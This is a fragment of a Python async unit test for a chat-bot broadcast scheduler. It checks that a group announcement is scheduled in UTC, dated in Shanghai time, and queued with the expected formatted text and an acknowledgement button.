    at = datetime(2026, 3, 2, 16, 30, tzinfo=UTC)  # 00:30 on the 3rd in Shanghai
    async with uow() as u:
        staff = await u.people.get(staff_id)
        assert staff is not None
        made = await svc.schedule(
            u,
            person=staff,
            chat_id=900001,
            text="t",
            photo=None,
            audience=svc.Audience("group", "g1"),
            at=at,
            ack=True,
        )
        await u.commit()
        await svc.start_due(u, at, load_settings())
        await u.commit()
        rows = await outbox(u, broadcast_id=made.id)
    assert [r.payload["text"] for r in rows] == ["📢 <b>人大常委会</b>通知 · 2026-03-03\n\nt"] * 2
    assert {r.payload["reply_markup"]["inline_keyboard"][0][0]["text"] for r in rows} == {"✅ 收到"}
